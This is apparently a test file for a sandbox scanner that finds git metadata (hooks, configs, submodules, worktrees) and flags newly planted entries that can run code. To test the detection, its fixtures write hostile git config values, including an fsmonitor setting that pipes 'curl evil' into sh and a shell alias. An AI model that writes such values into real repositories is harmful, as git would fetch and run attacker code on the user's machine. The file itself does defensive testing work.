import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { configKeys, findGitMetadata, gitMetadataCandidates, MAX_DEPTH, plantedGitMetadata } from '../../src/sandbox/gitMetadata';

function tree(files: Record<string, string>): string {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'wsb-git-')));
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    if (rel.endsWith('/')) fs.mkdirSync(path.join(root, rel), { recursive: true });
    else fs.writeFileSync(path.join(root, rel), content);
  }
  return root;
}

function found(root: string): string[] {
  return gitMetadataCandidates(findGitMetadata([root])).map((c) => `${c.kind} ${path.relative(root, c.path)}`).sort();
}

test('submodules (nested, with slashes in their names), worktrees, gitfiles and nested repositories are all found', () => {
  const root = tree({
    '.git/HEAD': '',
    '.git/modules/lib/HEAD': '',
    '.git/modules/lib/modules/inner/HEAD': '',
    '.git/modules/vendor/deep/HEAD': '',
    '.git/worktrees/feature/commondir': '../..',
    'lib/.git': 'gitdir: ../.git/modules/lib',
    'packages/tool/.git/HEAD': '',
  });
  assert.deepEqual(found(root), [
    'dir .git/hooks',
    'dir .git/modules/lib/hooks',
    'dir .git/modules/lib/modules/inner/hooks',
    'dir .git/modules/vendor/deep/hooks',
    'dir packages/tool/.git/hooks',
    'file .git/config',
    'file .git/modules/lib/config',
    'file .git/modules/lib/modules/inner/config',
    'file .git/modules/vendor/deep/config',
    'file .git/worktrees/feature/commondir',
    'file .git/worktrees/feature/config.worktree',
    'file .git/worktrees/feature/gitdir',
    'file lib/.git',
    'file packages/tool/.git/config',
  ]);
});

test(`the walk stops ${MAX_DEPTH} levels down and never enters node_modules`, () => {
  const deepest = Array.from({ length: MAX_DEPTH }, (_, i) => `d${i}`).join('/');
  const root = tree({ [`${deepest}/.git/HEAD`]: '', [`${deepest}/too-deep/.git/HEAD`]: '', 'node_modules/pkg/.git/HEAD': '' });
  assert.deepEqual(found(root), [`dir ${deepest}/.git/hooks`, `file ${deepest}/.git/config`]);
});

test('a tree without git metadata yields nothing, and a missing root is no error', () => {
  assert.deepEqual(found(tree({ 'src/index.js': '' })), []);
  assert.deepEqual(gitMetadataCandidates(findGitMetadata(["/nonexistent/wsb-test"])), []);
});

test('config keys are read as git reads them: sections, subsections, one-line assignments, includes', () => {
  const text = '[core]\n\trepositoryformatversion = 0\n\tbare\n[remote "origin"]\n\turl = x\n[Core] FSMonitor = evil\n; comment\n[branch.main]\n\tremote = origin\n[include]\n\tpath = ../x\n';
  assert.deepEqual(configKeys(text), ['core.repositoryformatversion', 'core.bare', 'remote.origin.url', 'core.fsmonitor', 'branch.main.remote', 'include.path']);
});

test('planted: new git metadata with code-running config or hooks; a plain new repository, or one already there, is not', () => {
  const root = tree({ 'old/.git/HEAD': '', 'old/.git/config': '[core]\n\tfsmonitor = x\n' });
  const before = findGitMetadata([root]);
  const plain = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[user]\n\tname = Scaffolder\n';
  for (const [rel, content] of Object.entries({
    'plain/.git/HEAD': '', 'plain/.git/config': plain, 'plain/.git/hooks/pre-commit.sample': '',
    'monitor/.git/HEAD': '', 'monitor/.git/config': `${plain}[core]\n\tfsmonitor = curl evil | sh\n`,
    'hooked/.git/HEAD': '', 'hooked/.git/config': plain, 'hooked/.git/hooks/post-checkout': '',
    'elsewhere/evil/config': '[include]\n\tpath = x\n', 'pointer/.git': 'gitdir: ../elsewhere/evil\n',
    'old/.git/modules/sub/HEAD': '', 'old/.git/modules/sub/config': '[alias]\n\tx = !sh\n',
  })) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), content);
  }
  const planted = plantedGitMetadata(before, [root]).map((p) => [path.relative(root, p.path), p.reasons]).sort();
  assert.deepEqual(planted, [
    ['hooked/.git', ['hook post-checkout']],
    ['monitor/.git', ['config core.fsmonitor']],
    ['old/.git/modules/sub', ['config alias.x']],
    ['pointer/.git', ['config include.path']],
  ]);
});

test('after a truncated walk, only metadata born after it counts as planted: a repository the walk missed is left alone', () => {
  const root = tree({ 'missed/.git/HEAD': '', 'missed/.git/config': '[core]\n\thooksPath = .husky\n' });
  const before = { gitDirs: [], gitFiles: [], gitLinks: [], truncated: true, takenAt: Date.now() + 60_000 };
  assert.deepEqual(plantedGitMetadata(before, [root]), []);
  assert.equal(plantedGitMetadata({ ...before, truncated: false }, [root]).length, 1, 'control: a complete walk that missed it means it is new');
});
